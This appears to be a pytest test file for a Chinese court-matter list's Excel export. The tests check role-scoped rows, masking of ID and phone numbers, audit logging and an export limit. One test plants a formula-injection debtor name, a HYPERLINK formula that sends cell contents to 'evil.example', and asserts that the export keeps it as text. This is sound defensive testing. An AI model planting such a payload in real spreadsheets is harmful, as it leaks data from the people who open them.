"""The matter list's spreadsheet (事项列表 → 导出 Excel), as attacks: each account gets
exactly the matters its list shows, under the list's filters and search; ID numbers go
out masked unless the role takes personal data in bulk (the admin); the outcome reads
as one Chinese line; a debtor named like a formula stays text; every export is audited;
and a list too long to export says so instead of exporting."""

from __future__ import annotations

import re
from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from test_matter_pages import XINGYAN_ADDRESS, YUNCHENG_COURT, file_directly

from admin.views import matter_export
from models import AuditRecord, Court, Matter, MatterState, User
from models.access import Scope
from models.identity import id_check_character

URL = "/admin/matter/export.xlsx"
HEADERS = ["案号", "法院", "承办人", "事项类型", "被执行人", "证件号码", "状态", "期限",
           "是否超期", "网格", "联络员", "办理人", "办理结果", "记录表签署", "劳务费（元）",
           "办结日期", "签收期限", "办结期限", "期限提示"]
MASKED_ID = re.compile(r"\d{6}\*{8}[\dX]{4}")
LATIN_WORD = re.compile(r"[A-Za-z]{2,}")
STATE_FILTER = "flt0_0"  # the list's first filter: state equals


def rows_of(response) -> list[dict]:
    assert response.status_code == 200, response.status_code
    assert response.mimetype.endswith("spreadsheetml.sheet")
    sheet = load_workbook(BytesIO(response.data)).active
    header, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert header == HEADERS
    return [dict(zip(HEADERS, r, strict=True)) for r in rows]


def readable(session, username: str, *conditions) -> set[str]:
    user = session.scalar(select(User).where(User.username == username))
    return set(session.scalars(select(Matter.case_number).where(
        Scope.of(user).matters(), *conditions)))


def last_export(session) -> AuditRecord:
    session.expire_all()
    return session.scalar(select(AuditRecord).where(AuditRecord.action == "export")
                          .order_by(AuditRecord.seq.desc()).limit(1))


def id_number(serial: str) -> str:
    first17 = f"44530219770707{serial}"
    return first17 + id_check_character(first17)


@pytest.mark.parametrize("username", ["demo_court_yuncheng", "demo_court_city", "demo_liaison",
                                      "demo_worker", "demo_town_centre"])
def test_each_account_exports_what_its_list_shows_with_numbers_masked(
        client_as, session, username):
    rows = rows_of(client_as(username).get(URL, query_string={STATE_FILTER: "done"}))
    wanted = readable(session, username, Matter.state == MatterState.done)
    assert {r["案号"] for r in rows} == wanted and len(rows) == len(wanted)
    assert all(r["状态"] == "已完成" for r in rows)
    numbers = [r["证件号码"] for r in rows if r["证件号码"]]
    assert all(MASKED_ID.fullmatch(n) for n in numbers), username
    record = last_export(session)
    assert (record.actor, record.entity, record.entity_id) == (username, "matters", "list")
    assert record.after["rows"] == len(rows) and record.after["id_numbers_full"] == 0
    assert record.after["filters"] == {STATE_FILTER: "done"}


def test_a_committee_has_no_export(client_as):
    """A county committee lists only the matters the escalation ladder brought to it,
    to act on them one by one; the city committee has no matter list at all."""
    committee = client_as("demo_yuncheng_committee")
    assert "gridlink-export-matters" not in committee.get("/admin/matter/").get_data(
        as_text=True)
    assert committee.get(URL).status_code == 403
    city = client_as("demo_city_committee")
    assert city.get("/admin/matter/").status_code == 403 and city.get(URL).status_code == 403


def test_a_base_court_gets_its_own_and_the_intermediate_court_those_under_it(
        client_as, session):
    own = {r["法院"] for r in rows_of(client_as("demo_court_yuncheng").get(URL))}
    city = {r["法院"] for r in rows_of(client_as("demo_court_city").get(URL))}
    yuncheng = session.scalar(select(Court).where(Court.name == YUNCHENG_COURT))
    assert YUNCHENG_COURT in own and all(
        name == YUNCHENG_COURT or name.startswith("云城") or "法庭" in name for name in own)
    assert own < city and yuncheng.name in city and len(city) >= 5


def test_the_outcome_signatures_and_fee_read_in_chinese(client_as):
    rows = rows_of(client_as("demo_court_yuncheng").get(URL, query_string={
        STATE_FILTER: "paid"}))
    assert rows
    for r in rows:
        assert r["办理结果"] and "：" in r["办理结果"], r
        assert not LATIN_WORD.search(r["办理结果"]), r["办理结果"]
        assert r["记录表签署"].startswith("网格签署：") and "法院签署：" in r["记录表签署"]
        assert not LATIN_WORD.search(r["记录表签署"])
        assert r["劳务费（元）"] is not None and r["办结日期"] is not None
        assert r["是否超期"] == "否"
    # A phone number the grid found for the debtor goes out masked too.
    phones = [r["办理结果"] for r in rows if "联系电话：" in r["办理结果"]]
    assert phones and all(re.search(r"联系电话：100\*{4}\d{4}", p) for p in phones)
    # English readers of the page still get a Chinese spreadsheet.
    client = client_as("demo_court_yuncheng")
    client.get("/lang/en")
    assert rows_of(client.get(URL, query_string={STATE_FILTER: "paid"}))[0]["办理结果"] == \
        rows[0]["办理结果"]


def test_ids_in_full_only_for_the_admin_and_a_formula_stays_text(client_as, session):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    case = "（2026）粤5302执9901号"
    file_directly(session, YUNCHENG_COURT, case, XINGYAN_ADDRESS, debtor_name=evil,
                  debtor_id_number=id_number("991"))
    for username, number in (("demo_admin", id_number("991")),
                             ("demo_court_yuncheng", id_number("991")[:6] + "*" * 8
                              + id_number("991")[-4:])):
        response = client_as(username).get(URL, query_string={"search": case})
        (row,) = rows_of(response)
        assert row["被执行人"] == "'" + evil and row["证件号码"] == number
        cell = load_workbook(BytesIO(response.data)).active["E2"]
        assert cell.data_type == "s"
        record = last_export(session)
        assert record.after["id_numbers_full"] == (1 if username == "demo_admin" else 0)
        assert record.after["id_numbers"] == ("full" if username == "demo_admin" else "masked")


def test_the_list_offers_the_export_with_its_filters(client_as):
    page = client_as("demo_liaison").get("/admin/matter/", query_string={STATE_FILTER: "done"})
    assert page.status_code == 200
    assert f'href="{URL}?{STATE_FILTER}=done"' in page.get_data(as_text=True)


def test_too_many_matters_say_so_and_export_nothing(client_as, session, monkeypatch):
    monkeypatch.setattr(matter_export, "MAX_ROWS", 3)
    client = client_as("demo_court_yuncheng")
    before = last_export(session)
    response = client.get(URL, query_string={STATE_FILTER: "paid"})
    assert response.status_code == 302
    assert f"{STATE_FILTER}=paid" in response.headers["Location"]
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "最多导出 3 件" in page
    assert "共有 3+ 件" in page  # more than the most: not counted further
    after = last_export(session)
    assert (after.seq if after else None) == (before.seq if before else None)
